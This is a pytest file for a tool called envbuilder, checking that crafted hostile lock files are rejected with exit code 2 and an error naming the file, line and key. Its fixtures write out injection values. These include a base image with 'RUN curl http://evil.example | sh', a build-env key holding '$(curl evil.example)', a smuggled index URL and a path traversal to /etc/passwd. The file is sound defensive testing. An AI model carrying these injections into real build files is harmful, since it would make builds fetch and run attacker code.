"""A lock is untrusted input: each attack of issue 10, crafted as an attacker would (edit the canonical
form, re-serialise with `envbuilder.lock.io` so the digest is consistent), ends in exit 2 naming the
file, the line and the key, for every command that reads a lock; none of them rewrites it."""

from __future__ import annotations

import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from envbuilder.lock import io
from envbuilder.lock.model import Lock
from tests.resolve.project import Project, wide_consoles

REPO = Path(__file__).resolve().parents[2]
TARGET = "cpu-llamacpp"
SHIPPED = REPO / "locks" / f"{TARGET}.lock.toml"


def package(data: dict, name: str) -> dict:
    return next(p for p in data["package"] if p["name"] == name)


def set_base_image(data: dict) -> None:
    data["toolchain"]["base-image"] = "x/debian:latest\nRUN curl http://evil.example | sh"


def newline_in_name(data: dict) -> None:
    package(data, "tqdm")["name"] = "tqdm\n--index-url http://evil.example/simple"


def git_commit_main(data: dict) -> None:
    package(data, "tqdm")["source"] = {"git": "https://github.com/tqdm/tqdm", "commit": "main"}


def credentials_in_git_url(data: dict) -> None:
    package(data, "tqdm")["source"] = {"git": "https://user:ghp_secret@github.com/tqdm/tqdm",
                                       "commit": "c" * 40}


def credentials_as_index(data: dict) -> None:
    package(data, "tqdm")["source"] = {"index": "https://user:secret@evil.example/simple"}


def path_as_file(data: dict) -> None:
    package(data, "tqdm")["artifacts"][0]["file"] = "../../../../etc/passwd"


def url_as_file(data: dict) -> None:
    package(data, "tqdm")["artifacts"][0]["file"] = "https://evil.example/tqdm-4.70.1-py3-none-any.whl"


def integer_version(data: dict) -> None:
    package(data, "tqdm")["version"] = 4


def integer_lock_version_as_bool(data: dict) -> None:
    data["lock-version"] = True


def other_package_file(data: dict) -> None:
    package(data, "tqdm")["artifacts"][0]["file"] = "evil-4.70.1-py3-none-any.whl"


def unpinned_without_saying_so(data: dict) -> None:
    del data["toolchain"]["base-image-pinned"]


def undefined_index(data: dict) -> None:
    data["indexes"] = ["pypi", "evil"]
    package(data, "tqdm")["source"] = {"index": "evil"}


def shell_in_build_env(data: dict) -> None:
    package(data, "llama-cpp-python")["build"]["env"]["X=1 $(curl evil.example)"] = "1"


ATTACKS: dict[str, tuple[Callable[[dict], None], str]] = {
    "base-image newline RUN": (set_base_image, "toolchain.base-image"),
    "newline in a package name": (newline_in_name, ".name"),
    'commit = "main"': (git_commit_main, ".source.commit"),
    "credentials in a git URL": (credentials_in_git_url, ".source.git"),
    "index URL with credentials": (credentials_as_index, ".source.index"),
    "path as a file name": (path_as_file, ".artifacts[0].file"),
    "URL as a file name": (url_as_file, ".artifacts[0].file"),
    "version = 4": (integer_version, ".version"),
    "lock-version = true": (integer_lock_version_as_bool, "lock-version"),
    "another package's file": (other_package_file, ".artifacts[0].file"),
    "unpinned base image, implicitly": (unpinned_without_saying_so, "toolchain.base-image"),
    "shell in a build env name": (shell_in_build_env, ".build.env"),
}


def craft(attack: Callable[[dict], None]) -> str:
    """The shipped lock with one edit, written back through envbuilder.lock.io (digest recomputed)."""
    data = io.loads(SHIPPED.read_text(), str(SHIPPED)).to_dict()
    attack(data)
    return io.dumps(Lock.from_dict(data))


@pytest.mark.parametrize("name", ATTACKS)
def test_reading_names_file_line_and_key(name: str):
    attack, key = ATTACKS[name]
    text = craft(attack)
    with pytest.raises(io.BadLock) as caught:
        io.loads(text, "evil.lock.toml")
    error = caught.value
    assert error.exit_code == 2
    assert error.origin == "evil.lock.toml" and key in error.key, (error.key, str(error))
    assert error.line is not None and str(error).startswith(f"evil.lock.toml:{error.line}: key '{error.key}'")
    lines = text.splitlines()
    assert lines[error.line - 1].split("=")[0].strip().strip('"') in error.key or lines[error.line - 1].startswith("["), \
        (lines[error.line - 1], error.key)


def test_not_utf8_is_a_typed_error_naming_the_file(tmp_path: Path):
    path = tmp_path / "latin1.lock.toml"
    path.write_bytes(SHIPPED.read_bytes().replace(b'target = "cpu-llamacpp"', b'target = "cpu-llamac\xe9pp"'))
    with pytest.raises(io.BadLock) as caught:
        io.read_lock(path)
    assert caught.value.origin == str(path) and caught.value.line == 3 and "not UTF-8" in str(caught.value)


@pytest.fixture
def shipped_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> Project:
    """A copy of this repository's cpu-llamacpp matrix and lock (the CPU target: no GPU needed)."""
    root = tmp_path / "project"
    (root / "locks").mkdir(parents=True)
    shutil.copytree(REPO / "matrices", root / "matrices")
    shutil.copytree(REPO / "dockerfiles", root / "dockerfiles")
    shutil.copy(SHIPPED, root / "locks" / SHIPPED.name)
    monkeypatch.setenv("ENVBUILDER_ROOT", str(root))
    monkeypatch.chdir(root)
    wide_consoles(monkeypatch)
    return Project(root, capsys)


def readers(lock: Path, base: Path, out: Path) -> list[tuple[str, ...]]:
    return [
        ("lock", "--check", TARGET),
        ("export", TARGET, "--format", "requirements", "-o", str(out / "req.txt")),
        ("export", "--lock", str(lock), "--format", "pylock", "-o", str(out / "pylock.toml")),
        ("render", TARGET, "-o", str(out / "ctx")),
        ("build", TARGET, "--dry-run"),
        ("explain", TARGET, "tqdm"),
        ("gate", "--base", str(base), "--head", str(lock)),
        ("verify", "--lock", str(lock), "--venv", sys.prefix),
    ]


@pytest.mark.parametrize("name", ["base-image newline RUN", "newline in a package name", 'commit = "main"',
                                  "index URL with credentials", "path as a file name", "URL as a file name",
                                  "version = 4"])
def test_every_reader_exits_2_and_rewrites_nothing(shipped_project: Project, tmp_path: Path, name: str):
    attack, key = ATTACKS[name]
    lock = shipped_project.lock_path(TARGET)
    text = craft(attack)
    lock.write_text(text, encoding="utf-8")
    base = tmp_path / "base.lock.toml"
    shutil.copy(SHIPPED, base)
    for args in readers(lock, base, tmp_path / "out"):
        result = shipped_project.run(*args)
        assert result.rc == 2, (args, result.text)
        assert str(lock) in result.err and key in result.err and "Traceback" not in result.text, (args, result.text)
        assert lock.read_text(encoding="utf-8") == text, f"{args} rewrote the lock"
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").rglob("*")), "a reader wrote output"


def test_an_index_the_matrix_does_not_define_is_exit_2_where_the_matrix_is_at_hand(shipped_project: Project,
                                                                                     tmp_path: Path):
    lock = shipped_project.lock_path(TARGET)
    lock.write_text(craft(undefined_index), encoding="utf-8")
    io.read_lock(lock)  # well-formed: 'evil' is one of the lock's own indexes
    for args in (("lock", "--check", TARGET), ("render", TARGET, "-o", str(tmp_path / "ctx")),
                 ("build", TARGET, "--dry-run"), ("explain", TARGET, "tqdm"),
                 ("export", TARGET, "--format", "requirements")):
        result = shipped_project.run(*args)
        assert result.rc == 2 and "key 'indexes[0]'" in result.err and "'evil'" in result.err, (args, result.text)


def test_a_huge_hostile_value_gives_a_short_message():
    text = craft(lambda data: package(data, "tqdm").update(version="1" * 5_000_000 + "$(id)"))
    with pytest.raises(io.BadLock) as caught:
        io.loads(text, "huge.lock.toml")
    assert caught.value.key.endswith(".version") and len(str(caught.value)) < 600


def test_write_lock_refuses_a_lock_it_could_not_read_back(tmp_path: Path):
    data = io.read_lock(SHIPPED).to_dict()
    set_base_image(data)
    target = tmp_path / "locks" / "x.lock.toml"
    with pytest.raises(io.BadLock) as caught:
        io.write_lock(Lock.from_dict(data), target)
    assert caught.value.key == "toolchain.base-image" and not target.exists()
